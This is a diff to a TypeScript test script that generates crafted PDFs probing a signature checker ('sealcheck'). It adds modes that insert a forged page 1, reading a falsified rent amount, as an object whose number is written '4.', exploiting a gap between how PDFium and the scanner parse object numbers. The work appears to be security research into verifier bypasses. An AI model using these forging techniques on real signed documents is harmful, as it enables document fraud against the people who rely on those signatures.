@@ -7,8 +7,8 @@
 // with a forged page 1, and its content stream B (listed, referenced by nothing sealcheck walks).
 // modes: honest (direct /N, no forge), indirect (indirect /N, no forge), forge (direct /N + T), attack (indirect + T),
 //        first (indirect /First instead of /N, + T)
-//        zero-pair (S begins with a pair naming object 0, T)
-//   npx tsx scripts/attack-s19/catalog-objstm.ts <honest|indirect|forge|attack|first|zero-pair>   REAL=0 for samples/valid
+//        zero-pair (S begins with a pair naming object 0, T); dot, dot-gen, dot-only (below)
+//   npx tsx scripts/attack-s19/catalog-objstm.ts <honest|indirect|forge|attack|first|zero-pair|dot|dot-gen|dot-only>   REAL=0 for samples/valid
 import { NumberAllocator, serialize } from "../../src/augment/writer.js";
 import { parsePdf } from "../../src/input/pdf/index.js";
 import { rawGet } from "../../src/input/pdf/objects.js";
@@ -17,10 +17,14 @@ import { resolveLimits } from "../../src/limits.js";
 import { save, work } from "../attack36/lib.js";
 import { judge, latin, page1 } from "../attack-s16/lib.js";
 
-const MODES = ["honest", "indirect", "forge", "attack", "first", "zero-pair"];
+const MODES = ["honest", "indirect", "forge", "attack", "first", "zero-pair", "dot", "dot-gen", "dot-only"];
 const mode = process.argv[2] ?? "attack";
 if (!MODES.includes(mode)) throw new Error(`usage: <${MODES.join("|")}>`);
-const indirectN = mode === "indirect" || mode === "attack";
+const indirectN = mode === "indirect" || mode === "attack" || mode === "dot" || mode === "dot-gen";
+// dot, dot-gen: no T; the forged page 1 written top-level, unlisted, as `4. 0 obj` or `4 0. obj`: PDFium's rebuild takes a
+// word of numeric characters ("4.", "0.") as a number (FXSYS_atoui), the scan wants digits then white space. dot-only:
+// the same bytes with a direct /N (no trigger): the scan's verdict on them.
+const dot = mode.startsWith("dot");
 const indirectFirst = mode === "first";
 const forge = mode === "forge" || mode === "attack" || mode === "first" || mode === "zero-pair";
 // zero-pair: S (direct /N 3) begins with a header pair naming object 0 (`0 0`, a `null`): PDFium's CPDF_ObjectStream::Init
@@ -65,12 +69,13 @@ obj(
   S,
   `<< /Type /ObjStm /N ${indirectN ? `${NUM} 0 R` : zeroPair ? "3" : "2"} /First ${indirectFirst ? `${NUM} 0 R` : hdrS.length} /Length ${dataS.length} >>\nstream\n${dataS}\nendstream`,
 );
-if (forge) {
+if (forge || dot) {
   const content = "1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET";
   obj(B, `<< /Length ${content.length} >>\nstream\n${content}\nendstream`);
   const page = `<< ${p.kept.join(" ")} /Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
   const hdrT = `${p.num} 0 `;
-  obj(T, `<< /Type /ObjStm /N 1 /First ${hdrT.length} /Length ${hdrT.length + page.length} >>\nstream\n${hdrT}${page}\nendstream`);
+  if (forge) obj(T, `<< /Type /ObjStm /N 1 /First ${hdrT.length} /Length ${hdrT.length + page.length} >>\nstream\n${hdrT}${page}\nendstream`);
+  else push(latin(`${mode === "dot-gen" ? `${p.num} 0.` : `${p.num}. 0`} obj\n${page}\nendobj\n`));
 }
 const row = (type: number, f2: number, f3: number) => [type, (f2 >>> 24) & 0xff, (f2 >>> 16) & 0xff, (f2 >>> 8) & 0xff, f2 & 0xff, (f3 >> 8) & 0xff, f3 & 0xff];
 off.set(X, at);
